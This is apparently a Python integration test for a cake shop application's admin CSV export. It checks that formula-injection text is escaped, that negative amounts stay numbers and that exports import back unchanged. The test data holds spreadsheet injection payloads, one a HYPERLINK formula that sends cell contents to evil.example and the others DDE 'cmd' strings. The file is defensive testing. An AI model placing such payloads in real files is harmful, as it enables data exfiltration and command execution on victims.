"""The admin's CSV export of any table: hostile text comes out as text, numbers as numbers,
and an exported file imports back as it was."""

from __future__ import annotations

import csv
import io

from sqlalchemy import text

from cakeshop_desktop.core.services import users
from cakeshop_desktop.core.services.table_editor import exchange
from tests.integration.support import cashier_sale

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Медовик")'
DESCRIPTION = "+cmd|' /C calc'!A0"
ALLERGENS = "@SUM(1+1)*cmd|' /C calc'!A0"


def _exported(shop, table: str) -> list[dict[str, str]]:
    out = io.StringIO()
    exchange.export_csv(shop.uow, shop.admin, table, out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def _hostile_cake(shop) -> None:
    with shop.uow.engine.begin() as db:
        db.execute(
            text("UPDATE cakes SET name = :n, description = :d, allergens = :a WHERE id = :c"),
            {"n": NAME, "d": DESCRIPTION, "a": ALLERGENS, "c": shop.medovik},
        )


def test_customer_text_in_a_table_export_cannot_run_as_a_formula(shop):
    _hostile_cake(shop)
    users.register_user(
        shop.uow, shop.admin, "evil", "customer", "secret123", full_name="-2+3+cmd|' /C calc'!A0"
    )
    cakes = {row["sku"]: row for row in _exported(shop, "cakes")}
    medovik = cakes["4600001"]
    assert (medovik["name"], medovik["description"], medovik["allergens"]) == (
        "'" + NAME,
        "'" + DESCRIPTION,
        "'" + ALLERGENS,
    )
    assert medovik["price"] == "1250.50"
    customer = next(row for row in _exported(shop, "users") if row["username"] == "evil")
    assert customer["full_name"] == "'-2+3+cmd|' /C calc'!A0"


def test_a_negative_amount_stays_a_number(shop):
    cashier_sale(shop.uow, shop.cashier, {shop.napoleon: 2})
    movements = _exported(shop, "stock_movements")
    assert [row["quantity"] for row in movements if row["kind"] == "sale"] == ["-2.000"]


def test_an_exported_cakes_file_imports_as_it_was_typed(shop):
    _hostile_cake(shop)
    out = io.StringIO()
    exchange.export_csv(shop.uow, shop.admin, "cakes", out)
    preview = exchange.preview_cake_import(shop.uow, shop.admin, out.getvalue())
    row = next(row for row in preview.rows if row.cake_id == shop.medovik)
    assert (row.values["name"], row.values["description"], row.values["allergens"]) == (
        NAME,
        DESCRIPTION,
        ALLERGENS,
    )
